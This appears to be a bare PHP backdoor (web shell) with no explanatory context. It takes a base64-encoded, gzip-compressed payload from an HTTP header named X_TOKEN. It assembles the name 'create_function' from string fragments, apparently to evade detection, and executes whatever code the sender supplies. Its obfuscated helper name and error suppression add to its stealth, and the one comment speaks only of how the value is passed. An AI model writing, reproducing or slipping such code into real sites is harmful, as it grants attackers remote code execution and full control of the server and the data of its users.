<?php
// The request value leaves the helper through a by-reference parameter, not as its result.
function _0x1f(&$o, $k)
{
    $o = gzinflate(base64_decode($_SERVER['HTTP_' . strtoupper($k)] ?? ''));
}
_0x1f($b, 'x_token');
$c = 'cr' . 'eate_' . 'function';
$g = @$c('', $b);
$g();
